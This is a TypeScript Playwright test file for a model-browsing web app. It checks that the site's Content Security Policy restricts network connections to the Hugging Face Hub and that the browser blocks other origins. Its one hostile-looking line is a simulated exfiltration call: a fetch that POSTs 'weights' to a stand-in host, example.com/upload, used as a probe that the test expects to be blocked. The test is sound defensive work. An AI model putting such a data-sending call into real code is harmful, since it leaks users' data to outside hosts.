// Privacy: the built site carries a Content Security Policy that allows no other origin but the
// Hugging Face Hub's, for downloads, so even a bug (or a hostile file) cannot make the page send
// data elsewhere; a fetch to another origin is refused by the browser before any request is made.
// (Every e2e test also asserts, through e2e/fixtures.ts, that no request leaves localhost.)
import { MOCK_HUB } from '../playwright.config';
import { expect, test } from './fixtures';

/** The Hub and its CDNs, and the e2e build's local Hub (HUB_ORIGINS). */
const HUB_ORIGINS = ['https://huggingface.co', 'https://*.huggingface.co', 'https://*.hf.co', MOCK_HUB.hub, MOCK_HUB.cdn];

test('the built site sets a CSP that allows no other origin, and the browser enforces it', async ({ page }) => {
  const violations: string[] = [];
  page.on('console', (m) => {
    if (/Content Security Policy/i.test(m.text())) violations.push(m.text());
  });
  await page.goto('/');
  await expect(page.getByTestId('model-card')).toBeVisible();
  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(csp).toBeTruthy();
  const directives = Object.fromEntries(csp!.split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v]));
  // Every source list names only this origin (and local blob:/data: URLs); fetches may also go to
  // the Hub's origins (model downloads), and nothing else may.
  for (const [name, sources] of Object.entries(directives)) {
    const allowed = ["'self'", "'none'", "'unsafe-inline'", "'wasm-unsafe-eval'", 'blob:', 'data:', ...(name === 'connect-src' ? HUB_ORIGINS : [])];
    for (const s of sources as string[]) expect(allowed, `${name} ${s}`).toContain(s);
  }
  expect(directives['default-src']).toEqual(["'self'"]);
  expect(directives['connect-src']).not.toContain('*');
  expect(directives['connect-src']).toEqual(["'self'", 'blob:', 'data:', ...HUB_ORIGINS]);
  expect(directives['script-src']).toEqual(["'self'", "'wasm-unsafe-eval'"]);

  // The page itself cannot reach another origin.
  const outcome = await page.evaluate(async () => {
    const seen = new Promise<string>((resolve) => document.addEventListener('securitypolicyviolation', (e) => resolve(e.violatedDirective), { once: true }));
    try {
      await fetch('https://example.com/upload', { method: 'POST', body: 'weights' });
      return { fetched: true, directive: '' };
    } catch {
      return { fetched: false, directive: await seen };
    }
  });
  expect(outcome.fetched).toBe(false);
  expect(outcome.directive).toBe('connect-src');
  // The app itself caused no violation while loading the demo model.
  expect(violations.filter((v) => !v.includes('example.com'))).toEqual([]);
});
